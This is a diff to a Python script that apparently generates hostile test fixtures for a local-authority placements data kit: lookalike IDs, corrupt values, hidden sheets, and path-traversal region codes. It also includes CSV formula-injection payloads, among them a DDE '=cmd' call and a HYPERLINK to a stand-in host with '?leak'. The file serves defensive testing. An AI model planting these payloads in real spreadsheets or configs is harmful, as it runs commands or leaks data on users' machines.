@@ -268,9 +268,124 @@ def excel_damaged(rows: list[list[str]]) -> None:
     save_workbook(wb, "cells_outside_header.xlsx")
 
 
+# ---------------------------------------------------------------------------------------------
+# Hostile files (issue 17): IDs that would merge children, values that would corrupt figures,
+# sheets nobody sees, a spreadsheet format the kit does not read
+
+PLACEHOLDERS = ["NULL", "None", "nan", "#N/A", "?", "-", "N/A", "unknown"]
+
+
+def hostile() -> None:
+    # Eight rows whose child ID stands for "no ID" (each would otherwise become one shared "child").
+    rows = [placement(1), *[placement(i + 2, child_ID=p) for i, p in enumerate(PLACEHOLDERS)], placement(10)]
+    write("placeholder_child_ids.csv", csv_text(rows))
+    # The same child written four ways that look identical on screen, and a second child twice.
+    ids = [
+        "LA900001",
+        "LA9\u200b00001",  # a zero-width space inside
+        "\u202eLA900001",  # a right-to-left override in front
+        "LA900\ufeff001",  # a BOM inside
+        "L\u0410900002",  # a Cyrillic capital A
+        "LA900002",
+    ]
+    write(
+        "invisible_and_lookalike_ids.csv", csv_text([placement(i + 1, child_ID=c) for i, c in enumerate(ids)])
+    )
+    # Values that would corrupt a figure if read: 40 nines as a weekly cost, a referral in year 1,
+    # a date in year 9999, Arabic-Indic digits in a cost and in a count.
+    bad = [
+        placement(1, cost_total_weekly="9" * 40),
+        placement(2, Date_entry_referral="01/01/0001"),
+        placement(3, date_entry_placement_cost="31/12/9999"),
+        placement(4, cost_total_weekly="\u0661\u0662\u0663\u0664"),
+        placement(5, number_of_siblings_to_place_with="\u0662"),
+        placement(6),
+    ]
+    write("implausible_values.csv", csv_text(bad))
+    # A file of rows, none of them with a child ID: the LA has no usable rows this period.
+    write("every_child_id_blank.csv", csv_text([placement(i, child_ID="") for i in range(1, 5)]))
+    # The data on a hidden sheet named as the template's data sheet, a very hidden sheet beside it.
+    xrows = [placement(i, XLSX_COLUMNS) for i in range(1, 4)]
+    wb = workbook(
+        {
+            "Cover": [["Quarterly placements return"]],
+            "Data Collection": [XLSX_COLUMNS, *xrows],
+            "Lookup": [["code"], ["x"]],
+        }
+    )
+    wb["Data Collection"].sheet_state = "hidden"
+    wb["Lookup"].sheet_state = "veryHidden"
+    save_workbook(wb, "hidden_sheets.xlsx")
+    # An OpenDocument spreadsheet (LibreOffice's own format): a zip whose first entry names it.
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        mime = zipfile.ZipInfo("mimetype", FIXED_TIME)
+        z.writestr(mime, "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
+        z.writestr(
+            zipfile.ZipInfo("content.xml", FIXED_TIME), "<office:document-content/>", zipfile.ZIP_DEFLATED
+        )
+    write("opendocument.ods", buf.getvalue())
+
+
+# ---------------------------------------------------------------------------------------------
+# Safe outputs (issue 17, items 2 and 3): cells that would run as formulas in whatever opens an
+# output, and region files whose LA codes would write outside the output folder
+
+FORMULA_PAYLOADS = {
+    "name_of_officer_referral": '=HYPERLINK("http://example.invalid/?leak","Open")',
+    "name_of_officer_placement": "+1+2",
+    "name_of_officer_placement_cost": "@SUM(A1:A9)",
+    "out_of_LA_reason": "-2+3",
+    "additional_support_other": "\t=1+1",
+    "provider_URN": "=1+2",
+    "placement_location": "\r=1+1",
+    "placement_type": "=cmd|' /C calc'!A0",
+    "cost_total_weekly": "=9*9",
+    "Date_entry_referral": "=TODAY()",
+}
+FORMULA_HEADER = '=HYPERLINK("http://example.invalid/","notes")'  # an LA's own column, kept as extra
+
+
+def formula_payloads() -> None:
+    """Rows 2-4 carry one payload per column named in FORMULA_PAYLOADS (row 3 also a CR inside a cell);
+    an extra column of the LA's own has a payload header and values."""
+    header = [*COLUMNS, FORMULA_HEADER]
+    rows = [placement(1) + ["+44 1234 567890"]]
+    rows.append(placement(2, **FORMULA_PAYLOADS) + ["=1+1"])
+    rows.append(placement(3, additional_support_other="ok\r=2+2", cost_core_weekly="-3") + ["@x"])
+    rows.append(placement(4, child_ID="=LA900004") + ["-"])
+    rows.append(placement(5) + ["plain"])
+    write("formula_payloads.csv", csv_text(rows, header))
+
+
+def region_cases() -> None:
+    """Region files (in regions/) whose LA code is a path: each must be refused before any work."""
+    folder = HERE / "regions"
+    folder.mkdir(exist_ok=True)
+    sample = (REPO / "sample_data" / "region.yml").read_text(encoding="utf-8")
+    rel = "../../../../sample_data/"
+    text = re.sub(
+        r"^(\s+(?:- )?)(placements|person|ssda903|reference)/", rf"\g<1>{rel}\2/", sample, flags=re.M
+    )
+    text = re.sub(r"^(\s+\w+: )(placements|person|ssda903|reference)/", rf"\g<1>{rel}\2/", text, flags=re.M)
+    text = text.replace("output: ../outputs/sample-region", "output: ../../../../outputs/malformed-region")
+    for name, code in {
+        "la_code_parent_path.yml": "../../../escaped",
+        "la_code_absolute_path.yml": "/tmp/escaped",
+    }.items():
+        (folder / name).write_text(text.replace("- code: Z01\n", f"- code: '{code}'\n", 1), encoding="utf-8")
+    # A threshold that would publish counts of 1 and 2: the run must refuse it (issue 17, item 6).
+    (folder / "suppress_below_one.yml").write_text(
+        re.sub(r"suppress_below: \d+", "suppress_below: 1", text), encoding="utf-8"
+    )
+
+
 if __name__ == "__main__":
     unusable()
     damaged()
+    hostile()
+    formula_payloads()
+    region_cases()
     files = sorted(p for p in HERE.iterdir() if p.suffix != ".py")
     size = sum(p.stat().st_size for p in files)
     print(f"wrote {len(files)} files ({size / 1e6:.2f} MB) in {HERE}")
